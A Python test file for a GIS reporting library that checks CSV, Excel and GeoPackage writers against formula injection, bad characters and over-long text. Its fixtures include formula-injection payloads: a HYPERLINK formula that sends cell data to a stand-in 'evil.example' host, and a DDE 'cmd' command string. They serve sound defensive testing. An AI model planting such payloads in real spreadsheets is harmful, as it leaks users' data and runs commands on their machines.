"""Text from data in every file writer: never a formula, only characters the format can hold.

Every writer (``write_table`` to CSV and Excel, ``write_workbook``, ``write_layers``, each
result's ``to_excel`` and ``to_geopackage`` and the flagship roster) is given text that starts
with ``=``, ``+``, ``-``, ``@`` (also after a tab or a carriage return), control characters,
U+FFFE/U+FFFF, lone surrogates and 40,000-character strings, in cells, column names and sheet
names. The files are read back and the stored values compared with what the rules say:

* Excel: every text is a string cell (never a formula or an error value), kept exactly, with
  characters the format cannot hold replaced by U+FFFD and text cut to 32,767 characters
  ending in "…"; numbers stay numbers;
* CSV: the same, and text a spreadsheet would run as a formula starts with ``'`` (OWASP);
* GeoPackage: the same replacement, no cut, no prefix;
* one ``OutputTextWarning`` per file when text was replaced or cut, naming the fields.

The expected values are computed here from those rules, independently of
:mod:`gridparty.core.sanitise`.
"""

from __future__ import annotations

import csv
import fcntl
import os
import re
import warnings
from pathlib import Path

import flagship_city as fc
import hypothesis.strategies as st
import openpyxl
import pandas as pd
import pyogrio
import pytest
import tiny_city as tc
from hypothesis import HealthCheck, given, settings

import gridparty.datasets.sample as ds
from gridparty.access.service import service_access, site_posts
from gridparty.alliances.lists import match_lists
from gridparty.alliances.network import alliance_network, analyse_alliances
from gridparty.alliances.pairing import check_pairing, propose_pairing
from gridparty.checks.fusion import grid_fusion
from gridparty.checks.organisation import organisation_coverage
from gridparty.checks.report import check_coverage
from gridparty.checks.snapshots import compare_snapshots
from gridparty.core.atomic import atomic_path, write_text
from gridparty.core.errors import OutputTextWarning
from gridparty.core.io import write_layers, write_table, write_workbook
from gridparty.core.model import Hierarchy
from gridparty.core.sanitise import sheet_names
from gridparty.datasets.sample import ALLIANCE_LAYERS
from gridparty.flagship.choice import choose_flagships
from gridparty.flagship.zones import mentoring_zones

# -- the rules, written out independently ---------------------------------------------------------

#: Characters no output format can hold.
BAD = {chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"} | {"\ufffe", "\uffff"}
BAD |= {chr(c) for c in range(0xD800, 0xE000)}

#: Text that starts like a formula, and what a CSV must hold for it.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"点击")': '\'=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=1+2": "'=1+2",
    "+86 138 0000 0000": "'+86 138 0000 0000",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
    "  =1+2": "'  =1+2",
    "\n@x": "'\n@x",
    "-": "'-",
}
#: Text that a spreadsheet shows as it is, also in a CSV.
PLAIN = ("网格=1", "a=b", "#N/A", "#DIV/0!", "1+2", "'=quoted", "")


def replaced(text: str) -> str:
    return "".join("\ufffd" if c in BAD else c for c in text)


def cut_excel(text: str) -> str:
    units = len(text.encode("utf-16-le", "surrogatepass")) // 2
    if units <= 32_767:
        return text
    out, used = "", 0
    for c in text:
        size = 2 if ord(c) > 0xFFFF else 1
        if used + size > 32_766:
            break
        out, used = out + c, used + size
    return out + "…"


def in_csv(text: str) -> str:
    text = cut_excel(replaced(text))
    starts = text[:1] in ("=", "+", "-", "@", "\t", "\r")
    after_blanks = text.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")
    return "'" + text if starts or after_blanks else text


def in_excel(text: str) -> str:
    """As read back: XML reads a carriage return as a line feed."""
    return cut_excel(replaced(text)).replace("\r\n", "\n").replace("\r", "\n")


def needs_warning(text: str) -> bool:
    return cut_excel(replaced(text)) != text


# -- reading back ---------------------------------------------------------------------------------


def workbook_cells(path: Path) -> dict[str, list[list[openpyxl.cell.Cell]]]:
    book = openpyxl.load_workbook(path)
    return {ws.title: [list(row) for row in ws.iter_rows()] for ws in book.worksheets}


def assert_no_formulas(path: Path) -> list[str]:
    """No cell is a formula or an error value; return every text stored."""
    texts = []
    for sheet, rows in workbook_cells(path).items():
        for row in rows:
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not BAD & set(cell.value), (sheet, cell.coordinate)
                    texts.append(cell.value)
    return texts


def read_csv(path: Path) -> pd.DataFrame:
    """Every cell as the text stored (Python's csv module: no type guessing, no stripping)."""
    with path.open(newline="", encoding="utf-8-sig") as file:
        header, *rows = list(csv.reader(file))
    return pd.DataFrame(rows, columns=header, dtype=object)


def output_warnings(record: list[warnings.WarningMessage]) -> list[str]:
    return [str(w.message) for w in record if issubclass(w.category, OutputTextWarning)]


def writing(write, *args, **kwargs) -> tuple[Path, list[str]]:
    with warnings.catch_warnings(record=True) as record:
        warnings.simplefilter("always")
        path = write(*args, **kwargs)
    return path, output_warnings(record)


# -- write_table, write_workbook, write_layers: fixed cases ---------------------------------------

NASTY = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "control": "名\x00称\x07\x1f",
    "noncharacter": "a\ufffeb\uffff",
    "surrogate": "x\ud800y\udfffz",
    "long": "长" * 40_000,
    "astral": "😀" * 20_000,
}


def objects(*values: str, index: pd.Index | None = None) -> pd.Series:
    """Text cells in an object column, as a user's frame may hold them: pandas' inferred
    ``str`` dtype cannot hold lone surrogates when pyarrow is installed (it stores UTF-8)."""
    return pd.Series(list(values), dtype=object, index=index)


def nasty_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": objects(*NASTY.values()),
            "number": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0],
            "=SUM(A1:A9)": ["=1+2", "+1", "-1", "@x", "\t=1", "\r=1"],
            "名\x00称": PLAIN[:6],
        }
    )


def test_a_csv_neutralises_formulas_and_replaces_what_it_cannot_hold(tmp_path: Path) -> None:
    table = nasty_table()
    with pytest.warns(OutputTextWarning) as record:
        path = write_table(table, tmp_path / "t.csv")
    assert len(output_warnings(record.list)) == 1
    message = str(record.list[0].message)
    assert "replaced by U+FFFD in 'text', '名\\x00称'" in message
    assert "cut (ending in '…') in 'text'" in message
    back = read_csv(path)
    assert back.columns.tolist() == ["text", "number", "'=SUM(A1:A9)", "名\ufffd称"]
    assert back["text"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "名\ufffd称\ufffd\ufffd",
        "a\ufffdb\ufffd",
        "x\ufffdy\ufffdz",
        "长" * 32_766 + "…",
        "😀" * 16_383 + "…",
    ]
    assert back["'=SUM(A1:A9)"].tolist() == [
        "'=1+2",
        "'+1",
        "'-1",
        "'@x",
        "'\t=1",
        "'\r=1",
    ]
    assert back["名\ufffd称"].tolist() == list(PLAIN[:6])
    # numbers stay numbers: written plain, a negative one without a prefix
    assert back["number"].tolist() == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0"]


def test_an_excel_table_has_string_cells_only_for_text(tmp_path: Path) -> None:
    with pytest.warns(OutputTextWarning, match=r"'校验问题/text', '校验问题/名\\x00称'"):
        path = write_table(nasty_table(), tmp_path / "t.xlsx")
    rows = workbook_cells(path)["校验问题"]
    assert [c.value for c in rows[0]] == ["text", "number", "=SUM(A1:A9)", "名\ufffd称"]
    assert [c.data_type for c in rows[0]] == ["s"] * 4
    texts = [c.value for c in (r[0] for r in rows[1:])]
    assert texts == [in_excel(v) for v in NASTY.values()]
    assert texts[0] == '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert [r[1].value for r in rows[1:]] == [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0]
    assert {r[1].data_type for r in rows[1:]} == {"n"}
    assert [r[2].value for r in rows[1:]] == ["=1+2", "+1", "-1", "@x", "\t=1", "\n=1"]
    assert [r[3].value for r in rows[1:]] == ["网格=1", "a=b", "#N/A", "#DIV/0!", "1+2", "'=quoted"]
    assert [r[3].data_type for r in rows[1:]] == ["s"] * 6
    # formula-like text carries Excel's quote prefix, so editing the cell keeps it text
    assert [rows[1][0].quotePrefix, rows[1][2].quotePrefix, rows[1][3].quotePrefix] == [
        True,
        True,
        False,
    ]
    assert_no_formulas(path)
    # pandas reads the same text back
    assert pd.read_excel(path)["=SUM(A1:A9)"].tolist()[:2] == ["=1+2", "+1"]


def test_a_workbook_cleans_sheet_names_headers_and_the_index(tmp_path: Path) -> None:
    table = pd.DataFrame({"value": [1, 2]}, index=pd.Index(["=1+2", "a\x00"], name="=id\x01"))
    tables = {"=bad[1]\x00": table, "=BAD[1]\ufffd": table, "x" * 40: table, "X" * 40: table}
    with pytest.warns(OutputTextWarning, match=r"'=bad\[1\]\\x00 \(sheet name\)'") as record:
        path = write_workbook(tables, tmp_path / "b.xlsx", headers={"value": "=数值"})
    assert len(output_warnings(record.list)) == 1
    cells = workbook_cells(path)
    assert list(cells) == ["=bad_1_\ufffd", "=BAD_1_\ufffd~2", "x" * 31, "X" * 29 + "~2", "说明"]
    rows = cells["=bad_1_\ufffd"]
    assert [[c.value for c in r] for r in rows] == [
        ["=id\ufffd", "=数值"],
        ["=1+2", 1],
        ["a\ufffd", 2],
    ]
    assert [[c.data_type for c in r] for r in rows] == [["s", "s"], ["s", "n"], ["s", "n"]]
    assert_no_formulas(path)


def test_a_geopackage_replaces_what_it_cannot_hold_and_keeps_the_rest(tmp_path: Path) -> None:
    grids = tc.grids().assign(name=objects(*list(NASTY.values())[:3]))
    grids["=col\x00"] = ["=1+2", "-1", "@x"]
    plain = pd.DataFrame({"text": objects(*NASTY.values()), "n": range(6)})
    with pytest.warns(OutputTextWarning) as record:
        path = write_layers({"grids\x00": grids, "plain": plain}, tmp_path / "g.gpkg")
    (message,) = output_warnings(record.list)
    assert "'grids\\x00 (layer name)', 'grids\ufffd/name', 'grids\ufffd/=col\\x00'" in message
    assert "cut" not in message  # a GeoPackage keeps long text whole
    assert pyogrio.list_layers(path)[:, 0].tolist() == ["grids\ufffd", "plain"]
    back = pyogrio.read_dataframe(path, layer="grids\ufffd")
    assert back["name"].tolist() == [replaced(v) for v in list(NASTY.values())[:3]]
    assert back["=col\ufffd"].tolist() == ["=1+2", "-1", "@x"]
    text = pyogrio.read_dataframe(path, layer="plain")["text"].tolist()
    assert text == [replaced(v) for v in NASTY.values()]
    assert len(text[4]) == 40_000


def test_clean_text_writes_without_a_warning(tmp_path: Path) -> None:
    table = pd.DataFrame({"名称": ["网格=1", "a-b", "#N/A"], "n": [-1, 2, 3]})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        write_table(table, tmp_path / "t.csv")
        write_table(table, tmp_path / "t.xlsx")
        write_layers({"t": table}, tmp_path / "t.gpkg")
    assert read_csv(tmp_path / "t.csv")["名称"].tolist() == ["网格=1", "a-b", "#N/A"]


# -- hypothesis: any text through CSV, Excel and GeoPackage ---------------------------------------

_ALPHABET = st.one_of(
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " ", "'", "#", "a", "网"]),
    st.sampled_from([*sorted(BAD)[:40], "\ufffe", "\uffff", "\ud800", "\udbff", "\udc00"]),
    st.characters(codec="utf-8"),
)
TEXTS = st.one_of(
    st.text(_ALPHABET, max_size=12),
    st.sampled_from([*FORMULAS, *PLAIN]),
    st.builds(lambda s, n: s * n, st.sampled_from(["x", "长", "😀", "=a"]), st.just(40_000)),
)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(TEXTS, min_size=1, max_size=4), TEXTS)
def test_any_text_is_stored_as_the_rules_say(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str], column: str
) -> None:
    folder = tmp_path_factory.mktemp("any")
    # a header of its own: not empty, not the other column, the index (id) or GDAL's fid/geom
    name = "c" + column if column.casefold() in ("", "n", "id", "fid", "geom") else column
    table = pd.DataFrame({name: objects(*texts), "n": [-float(i) for i in range(len(texts))]})
    warn = any(needs_warning(t) for t in (*texts, name))

    csv, said = writing(write_table, table, folder / "t.csv")
    assert len(said) == int(warn)
    back = read_csv(csv)
    assert back.columns.tolist() == [in_csv(name), "n"]
    assert back.iloc[:, 0].tolist() == [in_csv(t) for t in texts]

    xlsx, said = writing(write_table, table, folder / "t.xlsx")
    assert len(said) == int(warn)
    rows = workbook_cells(xlsx)["校验问题"]
    assert (rows[0][0].value or "") == in_excel(name)
    assert [r[0].value or "" for r in rows[1:]] == [in_excel(t) for t in texts]
    assert [r[1].value for r in rows[1:]] == table["n"].tolist()
    assert_no_formulas(xlsx)

    gpkg, said = writing(write_layers, {"t": table}, folder / "t.gpkg")
    assert len(said) == int(any(replaced(t) != t for t in (*texts, name)))
    layer = pyogrio.read_dataframe(gpkg, layer="t")
    assert layer.columns.tolist() == ["id", replaced(name), "n"]  # the index is written as id
    assert layer[replaced(name)].tolist() == [replaced(t) for t in texts]


# -- every result's to_excel and to_geopackage ----------------------------------------------------

#: A name a spreadsheet would run, with characters no format can hold.
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")\x00\x07\ufffe\ud800'
EVIL_STORED = '=HYPERLINK("http://evil.example/?"&A1,"点击")\ufffd\ufffd\ufffd\ufffd'
EVIL_ID = "=1+2"


def evil_tiny() -> Hierarchy:
    layers = tc.layers()
    layers["communities"] = layers["communities"].assign(
        name=objects(EVIL, "西社区"), street=objects(EVIL, EVIL)
    )
    layers["grids"] = layers["grids"].assign(
        name=objects(EVIL, "二网格", EVIL), grid_id=["G1", EVIL_ID, "G3"]
    )
    layers["buildings"] = layers["buildings"].assign(
        grid_id=["G1", "G1", EVIL_ID, "G3"], name=objects(*[EVIL] * 4)
    )
    grids = layers["grids"]
    layers["grids"] = grids[grids["grid_id"] != "G3"]  # community C2 becomes a gap
    return Hierarchy(**layers, strict=False)


def evil_results() -> dict[str, object]:
    tiny = evil_tiny()
    fh = Hierarchy(fc.communities().assign(name=objects(EVIL, "乙社区", EVIL)), fc.grids())
    organisations = fc.organisations()
    organisations = organisations.assign(name=objects(*[EVIL] * len(organisations)))
    centres = tc.frame(
        {"编号": [EVIL_ID, "K2"], "名称": objects(EVIL, "站"), "层级": ["驿站", "社区"]},
        [tc.point(0, -5), tc.point(300, -10)],
    )
    access = service_access(tiny, centres, threshold_m=100)
    report = check_coverage(tiny)
    other = tiny.grids.rename(index={EVIL_ID: "=3+4"})
    t = {n: ds.sample_layer(n) for n in ("communities", *ALLIANCE_LAYERS)}
    for name in ("communities", "units", "alliances", "departments"):
        t[name] = t[name].assign(
            name=t[name]["name"].astype(object).where(pd.RangeIndex(len(t[name])) % 2 == 1, EVIL)
        )
    t["needs"] = t["needs"].assign(title=objects(*[EVIL] * len(t["needs"]), index=t["needs"].index))
    net = alliance_network(
        t["units"],
        t["alliances"],
        t["memberships"],
        agreements=t["agreements"],
        communities=t["communities"],
    )
    return {
        "CoverageReport": report,
        "SpatialCoverage": report.grids,
        "OrganisationCoverage": organisation_coverage(tiny),
        "GridFusion": grid_fusion(tiny.grids, other),
        "SnapshotComparison": compare_snapshots(tiny, tiny),
        "MentoringZones": mentoring_zones(fh, ["A"], radius_m=700, organisations=organisations),
        "FlagshipChoice": choose_flagships(
            fh, 1, radius_m=700, organisations=organisations, solver="greedy"
        ),
        "ServiceAccess": access,
        "PostSiting": site_posts(access, k=1),
        "AllianceAnalysis": analyse_alliances(net),
        "PairingProposal": propose_pairing(
            t["communities"], t["departments"], pairings=t["pairings"]
        ),
        "PairingCheck": check_pairing(t["communities"], t["departments"], t["pairings"]),
        "ListMatch": match_lists(
            t["needs"], t["resources"], units=t["units"], communities=t["communities"]
        ),
    }


@pytest.fixture(scope="module")
def results() -> dict[str, object]:
    return evil_results()


def _carries(frames: list[pd.DataFrame], text: str) -> bool:
    return any(
        text in str(v)
        for f in frames
        for v in [
            *f.columns,
            *f.index,
            *f.drop(columns="geometry", errors="ignore").to_numpy().ravel(),
        ]
    )


def test_every_results_workbook_holds_names_as_text(results: dict, tmp_path: Path) -> None:
    with_name = []
    for name, result in results.items():
        assert type(result).__name__ == name
        path, said = writing(result.to_excel, tmp_path / f"{name}.xlsx")  # type: ignore[attr-defined]
        texts = assert_no_formulas(path)
        stored = any(EVIL_STORED in t for t in texts)
        assert stored == _carries(list(result._sheets("zh").values()), EVIL), name  # type: ignore[attr-defined]
        assert len(said) == int(stored), name
        if stored:
            with_name.append(name)
            assert "U+FFFD" in said[0]
            assert repr(str(path)) in said[0]
    assert len(with_name) >= 9, with_name


def test_every_results_geopackage_holds_names_replaced(results: dict, tmp_path: Path) -> None:
    with_name = []
    for name, result in results.items():
        tables = [
            t
            for t in result._shared_tables().values()  # type: ignore[attr-defined]
            if hasattr(t, "geometry") and "geometry" in t
        ]
        if not tables:
            continue
        path, said = writing(result.to_geopackage, tmp_path / f"{name}.gpkg")  # type: ignore[attr-defined]
        texts = [
            v
            for layer in pyogrio.list_layers(path)[:, 0]
            for column in pyogrio.read_dataframe(path, layer=layer).select_dtypes(
                [object, "string"]
            )
            for v in pyogrio.read_dataframe(path, layer=layer)[column]
            if isinstance(v, str)
        ]
        assert not any(BAD & set(t) for t in texts), name
        stored = any(EVIL_STORED in t for t in texts)
        assert stored == _carries(tables, EVIL), name
        assert len(said) == int(stored), name
        if stored:
            with_name.append(name)
    assert len(with_name) >= 6, with_name


# -- the flagship roster --------------------------------------------------------------------------

#: 31 characters: two flagship ids starting with it share Excel's whole sheet-name length.
PREFIX = "310101002003旗舰社区编号前缀相同的两个社区编号ab"


def test_roster_sheets_are_unique_and_listed_in_an_index(tmp_path: Path) -> None:
    assert len(PREFIX) == 31
    ids = {"A": PREFIX + "A", "B": PREFIX + "B", "C": "C"}
    communities = fc.communities().assign(
        community_id=list(ids.values()), name=["甲/社区[1]", "乙:社区*?", "=丙\x00"]
    )
    grids = fc.grids().assign(community_id=[ids[c] for c in fc.grids()["community_id"]])
    organisations = fc.organisations().assign(
        书记=["=cmd|' /C calc'!A0", "+1", "-1", "@x", "虚构书记戊"],
        联系电话=["+8613800000000", "-1", "=1", "10000000004", "10000000005"],
    )
    zones = mentoring_zones(
        Hierarchy(communities, grids),
        [ids["A"], ids["B"]],
        radius_m=600,
        organisations=organisations,
    )
    path = zones.roster_to_excel(tmp_path / "roster.xlsx")
    cells = workbook_cells(path)
    sheet_a, sheet_b = PREFIX, PREFIX[:29] + "~2"  # before: both written into one sheet
    assert list(cells) == ["联合党委名册", "目录", sheet_a, sheet_b, "说明"]
    index = [[c.value for c in row] for row in cells["目录"]]
    assert index == [
        ["工作表", "旗舰社区编码", "旗舰社区", "帮带对象"],
        [sheet_a, ids["A"], "甲/社区[1]", 2],
        [sheet_b, ids["B"], "乙:社区*?", 1],
    ]
    a = pd.read_excel(path, sheet_name=sheet_a, dtype=str)
    assert a["书记"].tolist() == ["=cmd|' /C calc'!A0", "+1"]
    assert a["联系电话"].tolist() == ["+8613800000000", "-1"]
    assert pd.read_excel(path, sheet_name=sheet_b, dtype=str)["书记"].tolist() == ["虚构书记戊"]
    assert_no_formulas(path)


def test_a_roster_sheet_name_from_forbidden_characters(tmp_path: Path) -> None:
    communities = fc.communities().assign(name=["甲/社区[1]", "'乙:社区*?'", "丙"])
    zones = mentoring_zones(
        Hierarchy(communities, fc.grids()),
        ["A", "B"],
        radius_m=600,
        organisations=fc.organisations(),
    )
    book = pd.read_excel(zones.roster_to_excel(tmp_path / "r.xlsx"), sheet_name=None)
    assert list(book) == ["联合党委名册", "目录", "A 甲_社区_1_", "B '乙_社区___", "说明"]
    assert book["目录"]["工作表"].tolist() == ["A 甲_社区_1_", "B '乙_社区___"]


# -- sheet names ----------------------------------------------------------------------------------


def test_sheet_names_are_valid_unique_and_kept_when_they_are() -> None:
    assert sheet_names(["a" * 40, "a" * 40, "A" * 40, "a" * 31]) == [
        "a" * 31,
        "a" * 29 + "~2",
        "A" * 29 + "~3",
        "a" * 29 + "~4",
    ]
    assert sheet_names(["'x'", "", "History", "a/b\\c?d*e:f[g]", "x\x00"]) == [
        "_x_",
        "sheet",
        "History~2",
        "a_b_c_d_e_f_g_",
        "x\ufffd",
    ]
    assert sheet_names(["😀" * 20]) == ["😀" * 15]  # 31 UTF-16 units, a pair never split
    names = ["概要", "Summary", "目录"]
    assert sheet_names(names) == names


@given(st.lists(st.text(_ALPHABET, max_size=40), max_size=8))
def test_sheet_names_hold_for_any_names(names: list[str]) -> None:
    out = sheet_names(names)
    assert len(out) == len(names)
    assert len({n.casefold() for n in out}) == len(out)
    for name in out:
        assert 0 < len(name.encode("utf-16-le", "surrogatepass")) // 2 <= 31
        assert not set("[]:*?/\\") & set(name)
        assert not BAD & set(name)
        assert name[0] != "'"
        assert name[-1] != "'"
    assert sheet_names(out) == out


# -- temporary files of killed runs ---------------------------------------------------------------


def test_leftovers_of_a_killed_run_are_removed_on_the_next_write(tmp_path: Path) -> None:
    ours = [".x.deadbeef.tmp.gpkg", ".x.0123abcd.tmp.gpkg-journal", ".x.0123abcd.tmp.gpkg-wal"]
    others = [
        ".x.deadbeef.tmp.xlsx",  # another target's (x.xlsx)
        ".y.deadbeef.tmp.gpkg",  # another target's (y.gpkg)
        ".x.DEADBEEF.tmp.gpkg",  # not a name the writer gives
        ".x.deadbee.tmp.gpkg",
        ".x.deadbeef.tmp.gpkg.keep",
        "x.deadbeef.tmp.gpkg",
        ".x.y.deadbeef.tmp.gpkg",  # target x.y.gpkg's
        "x.gpkg.bak",
    ]
    for name in ours + others:
        (tmp_path / name).write_bytes(b"\0" * 1024)
    (tmp_path / ".x.cafebabe.tmp.gpkg").mkdir()  # a folder is never removed
    write_text(tmp_path / "x.gpkg", "new")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [*others, ".x.cafebabe.tmp.gpkg", "x.gpkg"]
    )
    assert (tmp_path / "x.gpkg").read_text() == "new"


def test_leftovers_are_kept_while_another_write_runs_in_the_folder(tmp_path: Path) -> None:
    stale = tmp_path / ".x.deadbeef.tmp.html"
    stale.write_text("half")
    busy = os.open(tmp_path, os.O_RDONLY)
    try:
        fcntl.flock(busy, fcntl.LOCK_SH)  # what a running write holds
        write_text(tmp_path / "x.html", "one")
        assert stale.exists()
    finally:
        os.close(busy)
    write_text(tmp_path / "x.html", "two")
    assert not stale.exists()


def test_a_running_write_keeps_its_own_file_from_a_second_writer(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    with atomic_path(target) as tmp:
        tmp.write_text("first")
        write_text(target, "second")  # its clean-up must not take the first's file
        assert tmp.read_text() == "first"
    assert target.read_text() == "first"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]
    assert re.fullmatch(r"\.x\.[0-9a-f]{8}\.tmp\.csv", tmp.name)
